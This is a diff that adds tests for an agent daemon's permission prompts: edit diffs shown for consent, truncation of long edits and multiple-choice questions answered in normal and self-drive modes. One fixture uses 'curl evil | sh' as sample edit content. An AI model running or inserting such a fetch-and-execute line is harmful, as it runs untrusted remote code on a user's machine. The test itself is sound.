@@ -212,3 +212,53 @@ test('a run that waits is cancelled by its id', async () => {
   assert.equal(await daemon.runs.cancel(asked.runId), true)
   assert.equal((await refusalOf(daemon.answer(asked, 'allow_once')))?.reason, 'interaction_not_pending')
 })
+
+test('consent to an edit is asked with what would be written, and where', async () => {
+  await using daemon = await startTestDaemon()
+  const edit = JSON.stringify({ before: 'echo good\n', after: 'curl evil | sh\n' })
+  const { question } = await daemon.say(`edit /w/run.sh ${edit}`)
+  assert.ok(question?.kind === 'permission')
+  assert.equal(question.operation, 'edit')
+  assert.match(question.detail!, /^Edit files\n--- \/w\/run\.sh\n\+\+\+ \/w\/run\.sh\n/)
+  assert.match(question.detail!, /\n-echo good\n\+curl evil \| sh\n/)
+})
+
+test('a long edit is cut with a mark in the question, and told whole as long as it waits', async () => {
+  await using daemon = await startTestDaemon()
+  const asked = await daemon.say(`edit big.txt ${JSON.stringify({ after: 'line\n', repeat: 20_000 })}`)
+  assert.ok(asked.question?.kind === 'permission')
+  const { id, detail } = asked.question
+  assert.ok(detail!.length < 33_000)
+  assert.match(detail!, new RegExp(`\\[… \\d+ characters are left out here; all of it: GET .*/questions/${id} …\\]`))
+  const whole = await daemon.runs.question(id)
+  assert.equal(whole!.changes[0]!.diff.split('\n+line').length, 20_001)
+  await daemon.answer(asked, 'allow_once')
+  assert.equal(await daemon.runs.question(id), undefined)
+})
+
+const quiz = [
+  { question: 'Where to?', header: 'Target', options: [{ label: 'Staging', description: 'safe' }, { label: 'Live' }] },
+  { question: 'What else?', options: [{ label: 'Logs' }, { label: 'Mail' }], multiSelect: true },
+]
+
+test('a question that comes as a permission is asked as a question, and its answers arrive', async () => {
+  await using daemon = await startTestDaemon()
+  const asked = await daemon.say(`quiz ${JSON.stringify(quiz)}`)
+  assert.ok(asked.question?.kind === 'elicitation')
+  assert.deepEqual(asked.question.fields, [
+    { name: 'answer_1', type: 'string', required: true, options: ['Staging', 'Live'] },
+    { name: 'answer_2', type: 'array', required: true, options: ['Logs', 'Mail'] },
+  ])
+  assert.match(asked.question.message, /answer_1: Where to\?\n {2}- Staging \(safe\)/)
+  const content = { answer_1: 'Live', answer_2: ['Logs', 'Mail'] }
+  const { text } = await daemon.answer(asked, JSON.stringify({ action: 'accept', content }))
+  const answers = { '0': 'Live', '1': 'Logs, Mail' }
+  assert.deepEqual(JSON.parse(text), { outcome: { outcome: 'selected', optionId: 'proceed_once' }, answers })
+})
+
+test('such a question is asked in self-drive, too, and a no is told as the agent’s own', async () => {
+  await using daemon = await startTestDaemon()
+  const asked = await daemon.say(`quiz ${JSON.stringify(quiz)}`, { mode: 'self-drive' })
+  const { text } = await daemon.answer(asked, JSON.stringify({ action: 'decline' }))
+  assert.deepEqual(JSON.parse(text), { outcome: { outcome: 'selected', optionId: 'cancel' } })
+})
